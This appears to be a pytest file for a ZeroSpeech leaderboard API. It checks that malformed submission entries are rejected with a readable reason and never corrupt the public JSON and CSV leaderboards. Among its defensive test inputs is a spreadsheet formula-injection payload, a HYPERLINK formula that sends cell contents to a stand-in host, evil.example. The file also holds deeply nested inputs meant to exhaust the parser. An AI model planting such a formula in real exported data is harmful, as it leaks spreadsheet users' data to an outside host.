"""The entry rules: refused at evaluation with a readable reason (SQLite and PostgreSQL), never
breaking the other entries or the public JSON and CSV; the parser and the public copy."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from tests.helpers.factories import (
    events_of,
    make_benchmark,
    make_leaderboard,
    make_submission,
    make_user,
    realistic_entry,
    status_of,
    submission_files,
    zip_bytes,
)
from tests.helpers.leaderboards import csv_column, strict_json
from zerospeech_api.app import create_app
from zerospeech_api.db.tables import LeaderboardEntry
from zerospeech_api.evaluation.evaluators import EntryError as EvaluatorEntryError
from zerospeech_api.evaluation.worker import Worker
from zerospeech_api.leaderboards import entries
from zerospeech_api.leaderboards.entries import (
    BAD_UNICODE,
    CONTROL_CHARACTER,
    ENTRY_TOO_DEEP,
    MAX_DEPTH,
    NOT_FINITE,
    NUMBER_TOO_LARGE,
    EntryError,
)

MARK = "@@raw@@"

# name: (dotted field replaced, raw JSON text put there, the reason's constant, where it says)
BAD_ENTRIES: dict[str, tuple[str, str, str, str]] = {
    "huge integer": (
        "scores.lexical.all.test",
        "9" * 400,
        NUMBER_TOO_LARGE,
        "at scores.lexical.all.test",
    ),
    "NaN": ("scores.lexical.all.test", "NaN", NOT_FINITE, "at scores.lexical.all.test"),
    "Infinity": ("scores.syntactic.dev", "Infinity", NOT_FINITE, "at scores.syntactic.dev"),
    "-Infinity": ("scores.syntactic.test", "-Infinity", NOT_FINITE, "at scores.syntactic.test"),
    "1e400": ("extras.epochs", "1e400", NOT_FINITE, "at extras.epochs"),
    "nested 100 deep": ("details.parameters", "[" * 100 + "]" * 100, ENTRY_TOO_DEEP, "at details"),
    "nested 100000 deep": ("details.train_set", "[" * 100_000 + "]" * 100_000, ENTRY_TOO_DEEP, ""),
    "CR then formula": (
        "description",
        json.dumps('\r=HYPERLINK("http://evil.example/"&A1,"click")'),
        CONTROL_CHARACTER,
        "at description",
    ),
    "unpaired surrogate": (
        "publication.authors",
        '"Ada \\ud800 Lovelace"',
        BAD_UNICODE,
        "at publication.authors",
    ),
}


def raw_entry(field: str, raw: str, n: int = 1) -> str:
    """A realistic entry's JSON text with `field` replaced by the raw JSON text `raw`."""
    entry: dict[str, Any] = realistic_entry(n)
    *parents, last = field.split(".")
    target = entry
    for part in parents:
        target = target[part]
    target[last] = MARK
    return json.dumps(entry).replace(json.dumps(MARK), raw)


@pytest.fixture
def public(make_settings, db) -> Iterator[TestClient]:
    """A client whose app re-checks the database on every read."""
    with TestClient(
        create_app(make_settings(database_url=db.url, leaderboard_recheck_seconds=0))
    ) as c:
        yield c


@pytest.mark.parametrize("case", list(BAD_ENTRIES))
def test_bad_entry_is_invalid_and_leaves_the_board_intact(
    case: str, settings, db, public: TestClient
) -> None:
    field, raw, reason, where = BAD_ENTRIES[case]
    user = make_user(db, settings)
    bench = make_benchmark(db)
    make_leaderboard(db, "main", bench)
    good = make_submission(db, settings, user, benchmark_id=bench)
    files = submission_files(None) | {"scores/leaderboard.json": raw_entry(field, raw)}
    bad = make_submission(db, settings, user, benchmark_id=bench, archive=zip_bytes(files))
    worker = Worker(settings, db=db)
    worker.run(once=True)
    worker.mailer.close()

    assert status_of(db, bad) == "invalid"
    message = events_of(db, bad)[-1].message
    assert reason in message and where in message
    assert len(message) < 500
    assert status_of(db, good) == "completed"
    with db.session(read_only=True) as session:
        assert session.scalar(select(func.count()).select_from(LeaderboardEntry)) == 1
    document = strict_json(public.get("/leaderboards/main/json").text)
    assert [e["submission_id"] for e in document["data"]] == [good]
    response = public.get("/leaderboards/main/csv")
    assert csv_column(response.text, "submission_id") == [good]


def test_the_evaluator_still_raises_its_entry_error() -> None:
    # The worker maps evaluators.EntryError to `invalid`; the entry rules raise that very class.
    assert EvaluatorEntryError is EntryError
    with pytest.raises(EvaluatorEntryError):
        entries.parse_entry(raw_entry("scores.lexical.all.test", "NaN").encode())


def test_a_realistic_entry_passes_unchanged() -> None:
    entry = realistic_entry(3) | {"description": "line one\n\tline two, 50% <b>bold</b> ü 日本"}
    assert entries.parse_entry(json.dumps(entry).encode()) == entry
    assert entries.parse_entry(b"\xef\xbb\xbf" + json.dumps(entry).encode()) == entry


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ({"scores": {}, "a\x07b": 1}, f"key at a\\x07b: {CONTROL_CHARACTER} (U+0007)"),
        ({"scores": {"x": [1, 2, float("nan")]}}, f"at scores.x[2]: {NOT_FINITE}"),
        ({"scores": {}, "n": -(10**309)}, f"at n: {NUMBER_TOO_LARGE}"),
        ({"scores": {}, "t": ("tuple",)}, "at t: not a JSON value (tuple)"),
        ({"scores": {}, "s": "\x00"}, f"at s: {CONTROL_CHARACTER} (U+0000)"),
        ({"scores": {}, "s": "\x85"}, f"at s: {CONTROL_CHARACTER} (U+0085)"),
    ],
)
def test_check_value_names_the_place_and_the_rule(value: dict, reason: str) -> None:
    with pytest.raises(EntryError) as caught:
        entries.check_value(value)
    assert str(caught.value) == reason


def test_depth_limit_is_exact() -> None:
    def nested(levels: int) -> dict:
        value: dict = {}
        for _ in range(levels - 1):
            value = {"k": value}
        return value

    entries.check_value(nested(MAX_DEPTH))
    with pytest.raises(EntryError, match=ENTRY_TOO_DEEP):
        entries.check_value(nested(MAX_DEPTH + 1))
    assert entries.public_copy(nested(MAX_DEPTH)) == nested(MAX_DEPTH)
    cut = entries.public_copy(nested(MAX_DEPTH + 1))
    assert json.dumps(cut).count("{") == MAX_DEPTH and "null" in json.dumps(cut)


def test_public_entry_makes_stored_values_strict_and_keeps_good_ones() -> None:
    good = realistic_entry(1)
    assert entries.public_entry(good) is good  # the usual case costs no copy
    stored = {
        "scores": {"a": float("nan"), "b": float("inf"), "c": 10**400, "d": 1.5, "e": 7},
        "text": "x\ud800y",
        "k\udc00": True,
        "list": [float("-inf"), None, "ok"],
    }
    public = entries.public_entry(stored)
    assert public == {
        "scores": {"a": None, "b": None, "c": 10**400, "d": 1.5, "e": 7},
        "text": "x\ufffdy",
        "k\ufffd": True,
        "list": [None, None, "ok"],
    }
    json.dumps(public, allow_nan=False, ensure_ascii=False).encode("utf-8")
    assert entries.public_entry([1, 2]) == {}
